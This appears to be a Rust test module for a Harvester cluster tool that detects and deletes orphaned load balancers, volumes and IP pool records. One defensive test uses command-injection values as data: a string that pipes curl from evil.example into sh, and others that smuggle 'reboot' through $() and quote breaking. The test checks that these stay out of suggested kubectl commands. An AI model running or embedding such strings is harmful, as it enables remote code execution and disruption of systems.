use harvester_api::{annotations, finalizers, labels};
use rstest::rstest;
use serde_json::{Value, json};

use super::*;
use crate::{
    doctor::{
        facts::{Answer, Cluster, Failed, Trouble},
        read,
    },
    orphans::{delete::choose, facts::Facts},
};

mod twins;
mod volumes;

const NOW: &str = "2026-11-23T12:00:00Z";
const LONG_AGO: &str = "2026-11-20T12:00:00Z";
const VOLUME: &str = "pvc-0a1b2c3d-0000-4000-8000-000000000001";

fn list(items: &Value) -> Answer {
    Ok(json!({ "items": items }))
}

fn answers(all: Vec<(String, Value)>) -> Cluster {
    Cluster { answers: all.into_iter().map(|(path, items)| (path, list(&items))).collect() }
}

fn service(name: &str, uid: &str, shown: &str) -> Value {
    json!({"metadata": {"namespace": "shop", "name": name, "uid": uid}, "spec": {"type": "LoadBalancer"},
        "status": {"loadBalancer": {"ingress": [{"ip": shown}]}}})
}

fn node(name: &str, machine: &str, ready: &str) -> Value {
    json!({"metadata": {"name": name}, "spec": {"providerID": format!("harvester://{machine}")},
        "status": {"conditions": [{"type": "Ready", "status": ready}]}})
}

fn machine(name: &str, uid: &str, cluster: Option<&str>) -> Value {
    json!({"metadata": {"namespace": "vms", "name": name, "uid": uid, "labels": {labels::GUEST_CLUSTER: cluster}},
        "spec": {"template": {"spec": {}}}})
}

/// For Service `shop/<service>`.
fn balancer(name: &str, cluster: &str, service: &str, notes: &Value) -> Value {
    json!({"metadata": {"namespace": "vms", "name": name, "uid": format!("uid-{name}"), "resourceVersion": "7",
            "labels": {labels::CLUSTER: cluster, labels::SERVICE_NAMESPACE: "shop", labels::SERVICE_NAME: service},
            "annotations": notes},
        "spec": {"workloadType": "cluster"}})
}

fn of_cluster(uid: &str, service: &str) -> Value {
    json!({annotations::CLUSTER_UID: uid, annotations::SERVICE_UID: service})
}

fn claim(name: &str, cluster: Option<&str>) -> Value {
    let labels = cluster.map_or(json!({}), |cluster| json!({labels::GUEST_CLUSTER: cluster}));
    json!({"metadata": {"namespace": "vms", "name": name, "uid": "uid-c", "resourceVersion": "9",
            "creationTimestamp": LONG_AGO, "labels": labels},
        "spec": {"volumeName": "pv", "accessModes": ["ReadWriteMany"]}, "status": {"phase": "Bound"}})
}

/// Cluster blue with Service `shop/web`, one machine, and nothing left behind.
fn facts() -> Facts {
    let kubernetes = json!({"metadata": {"namespace": "default", "name": "kubernetes", "uid": "c1"}});
    let guest = vec![
        (read::NODES, json!([node("n1", "vm-1", "True")])),
        (read::SERVICES, json!([kubernetes, service("web", "s1", "10.0.0.9")])),
        (facts::VOLUMES, json!([])),
    ];
    let harvester = vec![
        (read::balancers("vms"), json!([balancer("web", "blue", "web", &of_cluster("c1", "s1"))])),
        (read::machines("vms"), json!([machine("n1", "vm-1", Some("blue"))])),
        (read::instances("vms"), json!([])),
        (facts::claims("vms"), json!([])),
        (facts::pods("vms"), json!([])),
        (facts::snapshots("vms"), json!([])),
        (facts::EXPORTS.to_owned(), json!([])),
        (read::POOLS.to_owned(), json!([])),
    ];
    Facts {
        now: NOW.parse().unwrap(),
        namespace: "vms".to_owned(),
        guest: Ok(answers(guest.into_iter().map(|(path, items)| (path.to_owned(), items)).collect())),
        harvester: answers(harvester),
    }
}

impl Facts {
    fn harvester(mut self, path: &str, more: &[Value]) -> Self {
        let Some(Ok(list)) = self.harvester.answers.get_mut(path) else { panic!("{path}") };
        list["items"].as_array_mut().unwrap().extend(more.iter().cloned());
        self
    }

    fn guest(mut self, path: &str, more: &[Value]) -> Self {
        let Some(Ok(list)) = self.guest.as_mut().unwrap().answers.get_mut(path) else { panic!("{path}") };
        list["items"].as_array_mut().unwrap().extend(more.iter().cloned());
        self
    }

    fn balancer(self, object: Value) -> Self {
        self.harvester(&read::balancers("vms"), &[object])
    }

    fn claim(self, object: Value) -> Self {
        self.harvester(&facts::claims("vms"), &[object])
    }

    fn machine(self, name: &str, uid: &str, cluster: Option<&str>) -> Self {
        self.harvester(&read::machines("vms"), &[machine(name, uid, cluster)])
    }

    fn unread(self, path: &str) -> Self {
        self.failing(path, Trouble::Forbidden, "forbidden")
    }

    fn failing(mut self, path: &str, trouble: Trouble, why: &str) -> Self {
        let failed = Failed { trouble, why: why.to_owned() };
        for cluster in [self.guest.as_mut().unwrap(), &mut self.harvester] {
            if let Some(answer) = cluster.answers.get_mut(path) {
                *answer = Err(failed.clone());
            }
        }
        self
    }

    fn without_guest(mut self) -> Self {
        self.guest = Err("no access to the local cluster".to_owned());
        self
    }
}

fn found(facts: &Facts) -> Vec<(String, Deletion)> {
    decide(facts).orphans.into_iter().map(|orphan| (orphan.name, orphan.delete)).collect()
}

fn one(name: &str, delete: Deletion) -> Vec<(String, Deletion)> {
    vec![(name.to_owned(), delete)]
}

/// The report where nothing is left behind.
fn nothing() -> Report {
    Report { namespace: "vms".to_owned(), ..Report::default() }
}

#[test]
fn where_everything_is_used_nothing_is_left_behind() {
    assert_eq!(decide(&facts()), nothing());
}

#[test]
fn an_object_with_this_clusters_uid_whose_service_is_gone_is_proved() {
    let facts = facts().balancer(balancer("old", "former", "gone", &of_cluster("c1", "s0")));
    assert_eq!(found(&facts), one("old", Deletion::Asked));
    // restored from the same backup under another name, beside its original
    let facts = facts.machine("m", "vm-7", Some("former"));
    assert_eq!((found(&facts), decide(&facts).kept.len()), (vec![], 1));
}

/// A Service on the data path host has an object of type vm; without the UID of a cluster a person made it.
#[rstest]
#[case::of_a_service(of_cluster("c1", "s0"), one("old", Deletion::Asked))]
#[case::of_a_person(json!({}), vec![])]
fn an_object_of_type_vm_is_left_behind_where_a_cluster_made_it(
    #[case] notes: Value,
    #[case] expected: Vec<(String, Deletion)>,
) {
    let mut object = balancer("old", "blue", "gone", &notes);
    object["spec"]["workloadType"] = json!("vm");
    assert_eq!(found(&facts().balancer(object)), expected);
}

#[test]
fn an_object_of_the_go_program_is_proved_by_the_label_of_the_nodes_machines() {
    let facts = facts().balancer(balancer("old", "blue", "gone", &json!({})));
    assert_eq!(found(&facts), one("old", Deletion::Asked));
    // a machine of that name that is no Node: another cluster may have the name too
    let facts = facts.machine("n9", "vm-9", Some("blue"));
    assert_eq!(found(&facts), []);
}

#[rstest]
#[case::its_service_has_the_uid("web", of_cluster("c1", "s1"))]
#[case::its_service_has_the_uid_under_another_cluster("gone", of_cluster("c0", "s1"))]
#[case::a_service_has_the_name("web", json!({}))]
#[case::another_service_of_the_name("web", of_cluster("c0", "s0"))]
fn an_object_that_a_service_here_may_have_is_used(#[case] service: &str, #[case] notes: Value) {
    let mut facts = facts();
    facts
        .harvester
        .answers
        .insert(read::balancers("vms"), list(&json!([balancer("a", "blue", service, &notes)])));
    assert_eq!(decide(&facts), nothing());
}

/// harvester#11345
#[test]
fn of_a_service_that_was_made_again_the_former_object_must_be_typed() {
    let former = balancer("former", "blue", "web", &of_cluster("c1", "s0"));
    let facts = facts().balancer(former.clone());
    assert_eq!(found(&facts), one("former", Deletion::Typed));
    let mut serving = former;
    serving["status"] = json!({"address": "10.0.0.9"});
    let mut facts = self::facts().balancer(serving);
    assert_eq!(found(&facts), [], "its address is shown");
    facts = facts.unread(read::SERVICES);
    assert_eq!(found(&facts), []);
}

#[rstest]
#[case::no_machine(&[], Some(Deletion::Typed))]
#[case::of_another_cluster(&[("m", Some("green"))], Some(Deletion::Typed))]
#[case::its_machine(&[("m", Some("red"))], None)]
#[case::its_machine_beside_one_of_nobody(&[("m", None), ("m2", Some("red"))], None)]
fn an_object_of_another_cluster_must_be_typed_and_only_where_no_machine_has_its_name(
    #[case] machines: &[(&str, Option<&str>)],
    #[case] expected: Option<Deletion>,
) {
    let mut facts = facts().balancer(balancer("far", "red", "web2", &of_cluster("c7", "s7")));
    for (name, cluster) in machines {
        facts = facts.machine(name, "vm-7", *cluster);
    }
    assert_eq!(
        found(&facts),
        expected.map(|delete| ("far".to_owned(), delete)).into_iter().collect::<Vec<_>>()
    );
    let kept = decide(&facts).kept;
    assert_eq!(kept.len(), usize::from(expected.is_none()), "{kept:?}");
}

/// The orphan that the question is asked about.
fn doubted(facts: &Facts, name: &str) -> Orphan {
    let report = decide(facts);
    let found = report.orphans.iter().find(|orphan| orphan.name == name);
    let orphan = found.unwrap_or_else(|| panic!("{report:#?}")).clone();
    assert_eq!((orphan.delete, orphan.doubt.is_some()), (Deletion::Typed, true), "{orphan:#?}");
    let asked = std::cell::RefCell::new(String::new());
    choose(&report, true, true, &mut |question| {
        asked.borrow_mut().push_str(question);
        String::new()
    });
    let doubt = orphan.doubt.as_deref().unwrap();
    assert!(asked.borrow().contains(doubt), "{doubt}: {}", asked.borrow());
    assert!(render(&report).contains(doubt), "{doubt}");
    orphan
}

#[test]
fn beside_a_machine_without_a_label_what_is_another_clusters_must_be_typed_and_the_question_says_so() {
    let facts = facts()
        .balancer(balancer("far", "red", "web2", &of_cluster("c7", "s7")))
        .claim(claim(VOLUME, Some("red")))
        .machine("m", "vm-7", None);
    for name in ["far", VOLUME] {
        let orphan = doubted(&facts, name);
        assert_eq!(
            orphan.doubt.as_deref(),
            Some("VirtualMachine vms/m may be a machine of its cluster"),
            "{orphan:#?}"
        );
    }
}

#[rstest]
#[case::of_its_name(Some("red"), false)]
#[case::of_another_name(Some("green"), true)]
#[case::of_nobody(None, true)]
fn without_a_guest_cluster_what_no_machine_has_the_name_of_must_be_typed(
    #[case] label: Option<&str>,
    #[case] is_offered: bool,
) {
    let mut facts = facts()
        .balancer(balancer("far", "red", "web2", &of_cluster("c7", "s7")))
        .claim(claim(VOLUME, Some("red")))
        .without_guest();
    facts.harvester.answers.insert(read::machines("vms"), list(&json!([machine("m", "vm-7", label)])));
    let report = decide(&facts);
    let far = report.orphans.iter().any(|orphan| orphan.name == "far");
    assert_eq!((far, report.not_read.len()), (is_offered, 1), "{report:#?}");
    if is_offered {
        doubted(&facts, "far");
        let sentence = doubted(&facts, VOLUME).sentence;
        assert!(sentence.contains("no PersistentVolume was read"), "{sentence}");
    } else {
        assert_eq!(found(&facts), one("web", Deletion::Typed), "{report:#?}");
    }
}

/// Two clusters of one name in a namespace, of which one has hand-made machines; a cluster that was restored beside its
/// original, whose machines have no label.
#[rstest]
#[case::of_the_go_program("blue", json!({}), None)]
#[case::restored("blue", of_cluster("c1", "s0"), None)]
#[case::restored_without_a_name("kubernetes", of_cluster("c1", "s0"), None)]
#[case::restored_without_a_name_beside_another_label("kubernetes", of_cluster("c1", "s0"), Some("green"))]
fn no_proof_counts_while_a_machine_may_be_of_a_cluster_that_looks_alike(
    #[case] cluster: &str,
    #[case] notes: Value,
    #[case] label: Option<&str>,
) {
    let facts = facts().balancer(balancer("old", cluster, "gone", &notes));
    assert_eq!(found(&facts), one("old", Deletion::Asked));
    let facts = facts.machine("m", "vm-7", label);
    doubted(&facts, "old");
}

#[test]
fn nothing_is_proved_while_the_nodes_are_not_read() {
    let facts =
        facts().balancer(balancer("old", "blue", "gone", &of_cluster("c1", "s0"))).unread(read::NODES);
    assert_eq!(found(&facts), []);
}

#[test]
fn an_object_under_the_name_that_nobody_chose_may_be_any_machines() {
    let of_nobody = balancer("far", "kubernetes", "web2", &json!({}));
    assert_eq!(found(&facts().balancer(of_nobody.clone())), one("far", Deletion::Typed));
    assert_eq!(found(&facts().balancer(of_nobody).machine("m", "vm-7", Some("green"))), []);
}

#[rstest]
#[case::services(read::SERVICES.to_owned())]
#[case::nodes(read::NODES.to_owned())]
#[case::machines(read::machines("vms"))]
#[case::volumes(facts::VOLUMES.to_owned())]
#[case::pods(facts::pods("vms"))]
#[case::snapshots(facts::snapshots("vms"))]
#[case::exports(facts::EXPORTS.to_owned())]
#[case::instances(read::instances("vms"))]
fn what_cannot_be_read_counts_as_living(#[case] path: String) {
    let facts = facts()
        .balancer(balancer("far", "red", "web2", &of_cluster("c7", "s7")))
        .balancer(balancer("old", "blue", "gone", &json!({})))
        .claim(claim(VOLUME, Some("blue")));
    assert_eq!(found(&facts).len(), 3);
    let is_of_volumes = [
        facts::VOLUMES.to_owned(),
        facts::pods("vms"),
        facts::snapshots("vms"),
        facts::EXPORTS.to_owned(),
        read::instances("vms"),
    ];
    let facts = facts.unread(&path);
    let report = decide(&facts);
    let left = if is_of_volumes.contains(&path) { 2 } else { usize::from(path == read::SERVICES) };
    assert_eq!((report.orphans.len(), report.not_read.len()), (left, 1), "{report:#?}");
    assert!(
        report.orphans.iter().all(|orphan| !(left == 1 && orphan.kind == Kind::LoadBalancer)),
        "{report:#?}"
    );
}

const OF_RANCHER: &str = "clusters.management.cattle.io \"c-m-1\" not found";

/// harvester#53642: Rancher's proxy answers 404 for each path of a cluster that it does not know any more.
#[rstest]
fn a_404_says_nothing_of_what_is_there(
    #[values(
        read::SERVICES.to_owned(),
        read::NODES.to_owned(),
        read::machines("vms"),
        read::balancers("vms"),
        read::instances("vms"),
        read::POOLS.to_owned(),
        facts::VOLUMES.to_owned(),
        facts::claims("vms"),
        facts::pods("vms")
    )]
    path: String,
    #[values(OF_RANCHER, "404 page not found")] why: &str,
) {
    let facts = facts()
        .balancer(balancer("far", "red", "web2", &of_cluster("c7", "s7")))
        .claim(claim(VOLUME, Some("blue")));
    let not_found = decide(&facts.clone().failing(&path, Trouble::NotFound, why));
    let forbidden = decide(&facts.failing(&path, Trouble::Forbidden, why));
    assert_eq!(not_found, forbidden);
    assert!(not_found.not_read.len() == 1 && not_found.not_read[0].contains(why), "{not_found:#?}");
}

// most cloud-configs may list neither
#[rstest]
#[case::pools(read::POOLS.to_owned(), false)]
#[case::pods("/api/v1/namespaces/vms/pods".to_owned(), false)]
#[case::machines(read::machines("vms"), true)]
#[case::balancers(read::balancers("vms"), true)]
fn a_report_is_incomplete_without_the_lists_that_every_cloud_config_may_read(
    #[case] path: String,
    #[case] is_incomplete: bool,
) {
    let report = decide(&facts().failing(&path, Trouble::Forbidden, "no"));
    assert_eq!((report.is_incomplete, report.not_read.len()), (is_incomplete, 1), "{report:#?}");
}

#[rstest]
fn a_harvester_without_the_kind_has_no_snapshots_and_no_exports(
    #[values(facts::snapshots("vms"), facts::EXPORTS.to_owned())] path: String,
    #[values(("the server could not find the requested resource", 1), (OF_RANCHER, 0))] answer: (&str, usize),
) {
    let (why, count) = answer;
    let facts = facts().claim(claim(VOLUME, Some("blue")));
    let report = decide(&facts.failing(&path, Trouble::NotFound, why));
    assert_eq!((report.orphans.len(), report.not_read.len()), (count, 1 - count), "{report:#?}");
}

#[test]
fn that_nothing_was_found_is_said_of_what_was_read() {
    let text = render(&decide(&facts()));
    assert_eq!(text, "Nothing was found that is left behind in namespace vms of Harvester.\n");
    let text = render(&decide(&facts().failing(&read::balancers("vms"), Trouble::NotFound, OF_RANCHER)));
    assert!(
        text.starts_with("Nothing was found that is left behind in namespace vms of Harvester, in the lists that could be read.\n"),
        "{text}"
    );
}

#[test]
fn of_a_guest_cluster_that_is_gone_all_is_left_once_its_machines_are() {
    let mut facts = facts()
        .claim(claim(VOLUME, Some("blue")))
        .unread(read::SERVICES)
        .unread(read::NODES)
        .unread(facts::VOLUMES);
    assert_eq!(found(&facts), []);
    facts.harvester.answers.insert(read::machines("vms"), list(&json!([])));
    assert_eq!(found(&facts), [("web".to_owned(), Deletion::Typed), (VOLUME.to_owned(), Deletion::Typed)]);
}

#[test]
fn a_record_without_its_load_balancer_is_released_by_hand() {
    let pool = json!({"metadata": {"name": "edge"}, "spec": {"ranges": []}, "status": {"allocated":
        {"10.0.0.2": "vms/gone", "10.0.0.3": "vms/web", "10.0.0.4": "vms/n1", "10.0.0.5": "elsewhere/gone"}}});
    let facts = facts().harvester(read::POOLS, &[pool]);
    let report = decide(&facts);
    assert_eq!(found(&facts), one("edge 10.0.0.2", Deletion::ByHand), "{report:#?}");
    let next = report.orphans[0].next.as_deref().unwrap();
    assert!(next.ends_with("manuallyReleaseIP=10.0.0.2: vms/gone'"), "{next}");
    assert_eq!(found(&facts.unread(&read::machines("vms"))), []);
}

/// A tenant who may write pools chooses the text that an administrator would paste.
#[rstest]
#[case::shell("10.0.0.2", "vms/x'; curl http://evil.example/a|sh; '")]
#[case::substitution("10.0.0.2", "vms/$(reboot)")]
#[case::of_the_address("10.0.0.2'; reboot; '", "vms/gone")]
fn a_record_whose_text_no_object_can_have_becomes_part_of_no_command(
    #[case] address: &str,
    #[case] holder: &str,
) {
    let pool = json!({"metadata": {"name": "edge"}, "spec": {"ranges": []}, "status": {"allocated": {address: holder}}});
    let report = decide(&facts().harvester(read::POOLS, &[pool]));
    let next = report.orphans[0].next.as_deref().unwrap();
    assert!(next.ends_with("kubectl edit ippools.loadbalancer.harvesterhci.io edge"), "{next}");
    let is_quoted = ["curl", "reboot"].iter().any(|word| next.contains(word));
    assert!(!is_quoted, "{next}");
}

#[test]
fn a_finalizer_that_keeps_a_deleted_machine_is_shown_after_ten_minutes() {
    let stuck = |since: &str| {
        let mut machine = machine("m", "vm-1", Some("blue"));
        machine["metadata"]["deletionTimestamp"] = since.into();
        machine["metadata"]["finalizers"] = json!([finalizers::LEGACY_VM]);
        found(&facts().harvester(&read::machines("vms"), &[machine]))
    };
    assert_eq!(stuck("2026-11-23T11:50:00Z"), one("m", Deletion::ByHand));
    assert_eq!(stuck("2026-11-23T11:51:00Z"), []);
}

#[test]
fn only_what_is_proved_is_deleted_by_one_word_and_the_rest_by_its_name() {
    let facts = facts()
        .balancer(balancer("old", "blue", "gone", &json!({})))
        .balancer(balancer("far", "red", "web2", &of_cluster("c7", "s7")))
        .claim(claim(VOLUME, Some("blue")));
    let report = decide(&facts);
    let chosen = |balancers, volumes, answer: &dyn Fn(&str) -> &'static str| -> Vec<String> {
        let mut ask = |question: &str| answer(question).to_owned();
        choose(&report, balancers, volumes, &mut ask).into_iter().map(|orphan| orphan.name.clone()).collect()
    };
    assert_eq!(chosen(true, true, &|_| "yes"), ["old"]);
    assert_eq!(chosen(true, true, &|_| "far"), ["far"]);
    assert_eq!(chosen(true, true, &|_| VOLUME), [VOLUME]);
    assert_eq!(chosen(true, false, &|_| VOLUME), [""; 0]);
    assert_eq!(chosen(false, true, &|_| "yes"), [""; 0]);
    assert_eq!(chosen(true, true, &|_| ""), [""; 0], "no answer is no");
}

#[test]
fn all_that_one_word_deletes_is_named_before_it_is_asked_for() {
    let mut facts = facts();
    for number in 0..60 {
        facts =
            facts.balancer(balancer(&format!("old-{number:02}"), "blue", "gone", &of_cluster("c1", "s0")));
    }
    let report = decide(&facts);
    let mut asked = Vec::new();
    choose(&report, true, false, &mut |question| {
        asked.push(question.to_owned());
        String::new()
    });
    let missing = report.orphans.iter().find(|orphan| !asked[0].contains(&format!("  {}\n", orphan.name)));
    assert_eq!((report.orphans.len(), asked.len(), missing), (60, 1, None));
    assert!(asked[0].ends_with("Delete these 60? Type yes: "), "{}", asked[0]);
}

#[rstest]
#[case::unchanged(json!({}), 1)]
#[case::written(json!({"resourceVersion": "8"}), 0)]
#[case::another_object(json!({"uid": "uid-other"}), 0)]
fn only_what_is_as_it_was_shown_is_deleted(#[case] change: Value, #[case] count: usize) {
    let mut object = balancer("old", "blue", "gone", &json!({}));
    let shown = decide(&facts().balancer(object.clone()));
    object["metadata"].as_object_mut().unwrap().extend(change.as_object().unwrap().clone());
    let again = decide(&facts().balancer(object));
    let chosen: Vec<_> = shown.orphans.iter().collect();
    let (same, rest) = delete::unchanged(&chosen, &again);
    assert_eq!((same.len(), rest.len()), (count, 1 - count));
    assert!(
        rest.iter().all(|outcome| !outcome.is_deleted && outcome.sentence.contains("has changed")),
        "{rest:?}"
    );
}

#[test]
fn an_undone_volume_waits_for_no_snapshot_and_is_in_no_machine() {
    let mut claim = claim(VOLUME, Some("blue"));
    claim["spec"]["dataSource"] = json!({"kind": "VolumeSnapshot", "name": "gone"});
    claim["spec"]["dataSourceRef"] = json!({"kind": "VolumeSnapshot", "name": "gone"});
    claim["metadata"]["annotations"] =
        json!({annotations::CSI_ATTACH: r#"{"vm":"gone","vmUid":"u","op":"attach"}"#, "team": "shop"});
    let report = decide(&facts().claim(claim));
    let text = delete::undo(&report.orphans.iter().collect::<Vec<_>>());
    let (head, object) = text.split_once("---\n").unwrap();
    let object: Value = serde_json::from_str(object).unwrap();
    assert_eq!(object["spec"], json!({"accessModes": ["ReadWriteMany"]}));
    assert_eq!(object["metadata"]["annotations"], json!({"team": "shop"}));
    assert!(head.contains("from a snapshot"), "{head}");
}

#[test]
fn the_undo_manifest_says_that_it_brings_no_data_back_and_names_no_volume_that_is_gone() {
    let report = decide(&facts().claim(claim(VOLUME, Some("blue"))));
    let text = delete::undo(&report.orphans.iter().collect::<Vec<_>>());
    assert!(text.contains("It brings no data back"), "{text}");
    let object = text.split_once("---\n").unwrap().1;
    let object: Value = serde_json::from_str(object).unwrap();
    assert_eq!((&object["metadata"]["name"], &object["spec"]["volumeName"]), (&json!(VOLUME), &Value::Null));
    assert!(object["metadata"]["uid"].is_null() && object["status"].is_null());
}
